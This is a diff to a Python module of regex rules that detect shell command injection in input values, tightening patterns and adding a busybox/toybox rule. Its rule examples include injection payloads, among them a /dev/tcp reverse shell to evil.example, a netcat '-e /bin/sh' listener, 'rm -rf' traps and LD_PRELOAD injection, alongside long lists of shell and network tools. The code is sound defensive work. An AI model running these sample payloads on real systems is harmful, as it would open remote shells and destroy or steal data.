@@ -61,7 +61,7 @@ _BIN = r"(?:/?(?:usr/)?(?:local/)?s?bin/)"
 # Programs whose names are no English words, and commands of the shell itself: they are commands
 # after a separator at the beginning of a value, or after a host, a number or a file name.
 _PROGRAMS = (
-    r"(?:rm|mv|cp|nc|ncat|netcat|ssh|scp|sftp|telnet|tftp|ftp|sudo|doas|ch(?:mod|own|grp|attr)|mkdir|rmdir|dd|tar|zip|unzip|g(?:un)?zip|curl|wget|ping6?|nslookup|dig|whoami|uname|ps|df|du|ls|ln|id|pwd|cat|tac|nl|grep|egrep|sed|g?awk"
+    r"(?:getent|rm|mv|cp|nc|ncat|netcat|ssh|scp|sftp|telnet|tftp|ftp|sudo|doas|ch(?:mod|own|grp|attr)|mkdir|rmdir|dd|tar|zip|unzip|g(?:un)?zip|curl|wget|ping6?|nslookup|dig|whoami|uname|ps|df|du|ls|ln|id|pwd|cat|tac|nl|grep|egrep|sed|g?awk"
     r"|perl|python[\d.]*|ruby|php\d?|lua|node|bash|zsh|ksh|dash|sh|xargs|nohup|setsid|coproc|expr|strace|gdb|gcc|git|docker|kubectl|npm|npx|pip3?|cargo|apt(?:-get)?|yum|dnf|apk|systemctl|crontab|useradd|usermod|passwd|rsync|socat|nmap"
     r"|tcpdump|tmux|vim|nano|tee|xxd|od|base64|openssl|u?mount|uptime|printf|echo|env|printenv|unset|mysql(?:dump)?|psql|mongo(?:sh)?|sqlite3|redis-cli|logger|sendmail|mailx|mutt|ifconfig|netstat|arp|lsof|pkill|killall|pgrep"
     r"|calc|notepad|mspaint|del|erase|ren|xcopy|robocopy|dir|attrib|taskkill|tasklist|shutdown|reboot|cscript|wscript|mshta|certutil|cmd|powershell|pwsh|ipconfig|schtasks|wmic|regsvr32|rundll32|gci|gc|iex|iwr|irm|gwmi|saps|icm|gps|gsv|gal)"
@@ -174,7 +174,7 @@ SHELL = (
          r"|nslookup\s+\w|net\s+\w|reg\s+(?:add|query|delete|save)|type\s+\w+\.|cat\s+\w+\.|uname\b|sysinfo\b|aptitude\b|reboot\b|mount\s*(?:;|$)|service\s+\w+\s+\w)|(?:;|\||&&?|\$\()\s*(?:(?:apt(?:-get)?|yum|npm|pip3?)\s+(?:install|update|remove)|docker\s+\w|systemctl\s)", _CWE, 0.9, examples=(';uname;',)),
     _cmd("assembled_word", r"(?:^|[;|&])\s*(?:export\s+|set\s+|local\s+)?\w{1,8}=[^;\s]{1,40};.{0,200}\$\w|\w\$\(\)\w|\b(?:c\$\{?[@*]\}?at|ca\$\{?[@*]\}?t|w\$\{?[@*]\}?ho|wh\$\{?[@*]\}?o|who\$\{?[@*]\}?a|i\$\{?[@*]\}?d\b|l\$\{?[@*]\}?s\b|[a-z]{1,8}\$\{?[@*]\}?[a-z]{1,8}[ \t]+[-/~.$\w])", _PATT, STRONG, examples=(';who$@ami',)),
     _cmd("empty_expansion", r"[a-z]\$\{?[@*]\}?[a-z]", _PATT, WEAK, examples=(';who$@ami',)),
-    _cmd("backtick_whole", r"^\S{0,24}`\s*" + COMMANDS + r"(?:\s+[-/.~$\w][^`]*)?`\s*$|%x\s*[({\[/]\s*['\"]?" + COMMANDS + r"\b", _PATT, STRONG, examples=('`id`',)),
+    _cmd("backtick_whole", r"^[^\s`]*`\s*" + COMMANDS + r"(?:\s+[-/.~$\w][^`]*)?`\s*$|%x\s*[({\[/]\s*['\"]?" + COMMANDS + r"\b", _PATT, STRONG, examples=('`id`',)),
     _cmd("ampersand_hard_command", r"(?:&|%26|\n)[ \t\x0b\x0c]*" + _HARD + r"\b", _CWE, examples=('& whoami',)),
     _cmd("command_with_argument", r"(?:^|[\s;|&`('\"=])" + _HARD + r"(?:\.exe)?\s+(?:-{1,2}\w|/|\.|https?:|\$|[\w.-]+\.\w{2,}|\d)", _OWASP, examples=('| netstat -an',)),
     # The places where a shell looks for a command; between words of a sentence it is only named.
@@ -186,7 +186,7 @@ SHELL = (
     _cmd("binary_path", r"/(?:usr/)?(?:local/)?s?bin/\w+|/bin/(?:ba|z|k|c|tc|da)?sh\b", _OWASP, examples=('/bin/ab',)),
     _cmd("shell_dash_c", r"\b(?:ba|z|k|c|da)?sh\s+-[ic]+\b|\bcmd(?:\.exe)?\s*/[ckr]\b|%comspec%\s*/c\b|\bpowershell(?:\.exe)?\s+-|\b(?:python[23]?|perl|ruby|php|node|lua)\s+-[erc]\b", _PATT, STRONG, examples=('|sh -c id',)),
     _cmd("ifs", r"\$\{?ifs\b|\$ifs\$|\{" + COMMANDS + r",[^}\s]{1,60}\}|\{\w{0,3},-\w+\}\w?|\w\{\w?,\w+\}\w", _PATT, STRONG, examples=('{l,-lh}s',)),
-    _cmd("brace_expansion", r"\{(?:cat|ls|curl|wget|echo|nc|ping|bash|sh|id|head|tail|uname|sleep),[^}]*\}", _PATT, STRONG, examples=('{id,}',)),
+    _cmd("brace_expansion", r"\{(?:cat|ls|curl|wget|echo|nc|ping|bash|sh|id|head|tail|uname|sleep),[^}\s]*\}", _PATT, STRONG, examples=('{id,}',)),
     _cmd("substitution", r"\$\(\s*(?:" + COMMANDS + r"\b|[./]|\w+\s+[\w/.~$-])", _CWE, examples=('$(cmd)',)),
     _cmd("backtick", r"`\s*[a-z./][^`]*`", _CWE, WEAK, examples=('`id`',)),
     _cmd("backtick_command", r"`\s*(?:id|ls|cat|whoami|uname|ping|curl|wget|nslookup|sleep|echo|ps|pwd|nc)\b[^`]*`", _CWE, examples=('`id`',)),
@@ -230,21 +230,21 @@ SHELL = (
     _cmd("prefixed_program", r"^[\s'\"]*" + _PREFIX + r"+" + _BIN + r"?(?:(?:ba|z|k|c|da)?sh\s+-\w|" + ADMIN_PROGRAMS + r"\b|" + _HARD + r"\b)", _GTFO, STRONG, examples=('time bsdtar ',)),
     _cmd("quoted_program", r"^\s*(?:\"" + ADMIN_PROGRAMS + r"\"|'" + ADMIN_PROGRAMS + r"')\s+[\w-]", _GTFO, STRONG, examples=("'cscli' alerts list",)),
     _cmd("change_directory", r"(?:^|[;|&`(])\s*cd\s+[/~.\w-]{1,60}\s*;\s*\w", _OWASP, CERTAIN, examples=('cd /;cd etc;fold passwd\n',)),
-    _cmd("shell_variable", r"\$\{?(?:shell|bash|0)\}?\s+-[ci]\b|\b(?:ba|z|k|c|da)?sh\$\{?\w+\}?\s+-c|[;|&`]\s*\$\w{1,8}\s+" + _HARD + r"\b", _PATT, CERTAIN, examples=('|$u wget test',)),
-    _cmd("shell_string", r"\b(?:ba|z|k|c|da|a)?sh\b.{0,24}?[\s,]-?c[\s,]+\\?['\"]?(?:" + _HARD + r"|id|ls|cat|echo|sh|bash|python\d?|perl|php|nc)\b|\b(?:gcc|cc|c89|c99|clang)\s+-wrapper\b", _GTFO, CERTAIN, examples=('|sh -c id',)),
+    _cmd("shell_variable", r"\$\{?(?:shell|bash|0)\}?\s+-[ci]\b|\b(?:ba|z|k|c|da)?sh\$\{?\w+\}?\s+-c|[;|&`]\s*\$\w{1,8}\s+" + _HARD + r"\b", _PATT, DECISIVE, examples=('|$u wget test',)),
+    _cmd("shell_string", r"\b(?:ba|z|k|c|da|a)?sh\b.{0,24}?[\s,]-?c[\s,]+\\?['\"]?(?:" + _HARD + r"|id|ls|cat|echo|sh|bash|python\d?|perl|php|nc)\b|\b(?:gcc|cc|c89|c99|clang)\s+-wrapper\b", _GTFO, DECISIVE, examples=('|sh -c id',)),
     _cmd("directory_tilde", r"^~[-+ ]\d*$", "bash manual: tilde expansion", STRONG, examples=('~+',)),
     _cmd("history_event", r"^!-\d+$|^(?:!-?\d+){2,}$", "bash manual: history expansion", STRONG, examples=('!-1!-2',)),
     _cmd("brace_list", r"\{,[\w./-]+(?:,[\w./-]*)*\}|\{\w+(?:,-\w+)+\}", "bash manual: brace expansion", CERTAIN, examples=('{,ip,a}',)),
     _cmd("brace_word", r"^\w+\{\w{0,8},\w{0,8}\}\w*$", "bash manual: brace expansion", STRONG, examples=('c{a,oun}t',)),
     _cmd("escaped_program", r"^\s*\\(?:" + COMMANDS + r"|" + ADMIN_PROGRAMS + r")(?:\s|$)", _GTFO, STRONG, examples=('\\ls',)),
     _cmd("socket_file", r"[<>&]\s*['\"]?[\w/$]*/(?:tcp|udp)/[\w.${}:-]{1,80}/[\w$]", _PATT, CERTAIN, examples=('exec 5<>/dev/tcp/8.8.8.8/80', 'bash -i >& /dev/tcp/evil.example/80 0>&1')),
-    _cmd("trap", r"[;|&]\s*trap\s+['\"]", _GTFO, CERTAIN, examples=(";trap 'rm -rf file.txt' SIGEXIT",)),
+    _cmd("trap", r"[;|&]\s*trap\s+['\"]", _GTFO, DECISIVE, examples=(";trap 'rm -rf file.txt' SIGEXIT",)),
     _cmd("registry_hive", r"\bregedit(?:\.exe)?\s+/[a-z]|\bhk(?:ey_(?:current_user|local_machine|classes_root|users)|cu|lm)\\", "LOLBAS", 0.8, examples=('cmd=; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustomRegKey',)),
     _cmd("batch_compare", r"\bif\s.{0,60}?(?:%[\w:~,*-]+%|%~?\d|%%\w|\[\w*\])\S*\s*(?:===?|equ|neq|lss|leq|gtr|geq)\s", "CRS 932140: cmd.exe IF", STRONG, examples=('if not %1 == "" (',)),
     _cmd("batch_do", r"\bin\s*\([^()]{0,80}(?:\([^()]*\)[^()]*)?\)\s*do\s+[@(a-z]", "CRS 932140: cmd.exe FOR", 0.8, examples=('& FOR %@ IN (a,b,c)DO cmd',)),
     _cmd("batch_word", r"^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?(?:\S{1,30}|\"[^\"]*\")\s+(?:equ|neq|lss|leq|gtr|geq)\s|^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?(?:defined|errorlevel|cmdextversion)\s+\w+\s+\(?[a-z]", "CRS 932140: cmd.exe IF", STRONG, examples=('if (1) equ (1) echo hey',)),
     _cmd("batch_equal", r"^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?(?:\"[^\"]*\"|\S{1,30})\s*===?\s*(?:\"[^\"]*\"|\S{1,30})\s+\(?(?:echo|goto|cmd|set|call|del|copy|type|start|exit|foo)\b", "CRS 932140: cmd.exe IF", CERTAIN, examples=('if a==b foo',)),
-    _cmd("separator_windows", r"(?:;|\||&)\s*(?:bcdboot|bcdedit|regedit|schtasks|wevtutil|vssadmin|ntdsutil|nltest|diskpart|icacls|takeown|msiexec|odbcconf|certutil|bitsadmin|mshta|regsvr32|rundll32|wmic|tasklist|systeminfo|ipconfig|esentutl|forfiles)(?:\.exe)?\s*(?:[/<>-]|\s\w|$)", "LOLBAS", CERTAIN, examples=('| systeminfo',)),
+    _cmd("separator_windows", r"(?:;|\||&)\s*(?:bcdboot|bcdedit|regedit|schtasks|wevtutil|vssadmin|ntdsutil|nltest|diskpart|icacls|takeown|msiexec|odbcconf|certutil|bitsadmin|mshta|regsvr32|rundll32|wmic|tasklist|systeminfo|ipconfig|esentutl|forfiles)(?:\.exe)?\s*(?:[/<>-]|\s\w|$)", "LOLBAS", DECISIVE, examples=('| systeminfo',)),
     _cmd("interpreter_path", r"\bbin/(?:perl|python[\d.]*|ruby|php\d?|node|lua|(?:ba|z|k|c|da)?sh)\s+-\w|\bpython[\d.]*\s+-m\s+\w", _GTFO, STRONG, examples=('bin/bash -c whoami")}',)),
     _cmd("netcat_shell", r"\b(?:nc|ncat|netcat)\b[^|;&]{0,60}\s-[ec]\s+\S*(?:sh|cmd)", _PATT, STRONG, examples=('nc -lvvp 4444 -e /bin/sh',)),
     _cmd("redirect_start", r"^\s*>{1,2}\s*/\w|^\s*<\s*/(?:etc|proc|var|root|home|dev|usr|opt|srv|tmp)/\w|^\s*[<>]\(\s*[a-z]+|^\s*\$\[\s*\d", _PATT, STRONG, examples=('<(cmd)', '< /etc/hosts')),
@@ -277,7 +277,7 @@ SHELL = (
     _cmd("target_program", r"^(?:" + _TARGET + r"\s*(?:;|\|\|?|&&?)|\w{1,2}\s*(?:;|\|\|?|&&)|[\w.:/-]+\$\()\s*" + _PROGRAMS + r"(?:\.exe)?(?:\s|$|[|<>])", _OWASP, CERTAIN,
           examples=("127.0.0.1; rm x", "127.0.0.1 & calc", "127.0.0.1|telnet e.vil 80", "a.txt; rm x", "8.8.8.8 && sudo id", "x;git pull", "x$(rm a)")),
     _cmd("word_program", r"^\w{3,24}\s*(?:;|\|\|?|&&)\s*(?:rm|mv|nc|ncat|telnet|sudo|chmod|chown|wget|dd|xargs|mkdir|rmdir|pkill|killall|nohup)\s+[\w@./*-]", _OWASP, CERTAIN, examples=("shop; rm x", "shop|nc host 80", "shop && sudo id")),
-    _cmd("line_program", r"^[\w.:/-]*[\r\n]+[ \t]*(?:sudo[ \t]+)?" + _PROGRAMS + r"[ \t]+[\w@./*-]", _OWASP, 0.5,
+    _cmd("line_program", r"^[\w.:/-]*[\r\n]+[ \t]*(?:sudo[ \t]+)?(?:exec|eval|timeout|nice|command|" + _PROGRAMS + r")[ \t]+[\w@./*$-]", _OWASP, 0.5,
           prefilter=_BEHIND_LINE, examples=("x\nrm a", "x\nsudo id", "\nnc host 80", "127.0.0.1\ngit pull")),
     _cmd("target_word", r"^(?:" + _TARGET + r"|\w{1,2})\s*(?:(?:;|\|\||&&)\s*" + _WORDED + r"(?:" + _ONE_ARGUMENT + r"|\s*$)|(?:;|\|\|?|&&)\s*\.?\s?(?:\.{1,2}/|~/|/(?:tmp|dev/shm|var/tmp|bin|opt|home)/)\w)", _OWASP, 0.9,
           prefilter=(r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\||&&) ?(?:less|more|source|script|screen|history|exit|watch|wall|write)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\|) ?(?:service|go|move|read|which|ed|mail|vol|assoc|cd)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\|?|&&) ?(?:\. )?(?:\.{1,2}/|~/|/tmp/)"),
@@ -316,6 +316,7 @@ SHELL = (
          prefilter=(r"(?:mapfile|readarray) \w+ ?<", r"[;|&] ?case \S+ in [^\s)]+\)", *(rf"{mark}{word} \w+ in " for mark in _MARKS for word in ("for", "select")), r"[;|&] ?\[{1,2} -[a-z] ", r"[;|&] ?: (?:\$\(|`)", r"[;|&] ?\. [\w./-]+(?:[\x0b\"&]|$)", r"[;|&] ?(?:export )?(?:prompt_command|bash_env|ps4|ld_preload|ld_library_path)="), examples=("a && LD_PRELOAD=./x.so id", "x;PROMPT_COMMAND=sh", "x;PATH=.:$PATH id", "x;trap sh EXIT", "x;mapfile a<f", "x;. x", "x;case x in x) cat f;;esac", "x;for i in *;do cat $i;done", "x;[ -f x ]&&cat f", "x;: $(cat f)")),
     # Markdown writes programs like this, too, but no name or number is one (priors.py).
     _cmd("ticked_words", r"^`\s*[a-z][\w.-]*\s+[^`\r\n]+`\s*$", _CWE, 0.5, examples=("`etcdctl get x`",)),
+    _cmd("box_shell", r"(?:^|[\s;|&`(=/])(?:busybox|toybox)(?:\s+\w+)?\s+-c\s", _GTFO, CERTAIN, prefilter=("toybox -c", r"toybox \w", "busybox -c"), examples=("busybox sh -c id", "toybox -c x")),
     # "$(in millions)" heads a column of money.
     _cmd("substituted_words", r"^[\w.:/@-]*\s?\$\(\s*(?:[a-hj-z_]|i[a-mo-z]|in\w)[\w.-]*\s+[^\s()][^()]*\)[\w.:/-]*$|^[\w.:/@-]+`\s*[a-z][\w.-]*\s+[^\s`][^`]*`[\w.:/-]*$|^`\s*[a-z][\w.-]*\s+(?:\w+\s+)*(?:-\w|[\w.]*[/~$*]|\w+\.\w)[^`]*`$", _CWE, CERTAIN,
          prefilter=("`\"", "`&", "`\x0b"), examples=("$(etcdctl get x)", "x$(vault read y)", "x`vault read y`", "`objdump -d x`")),
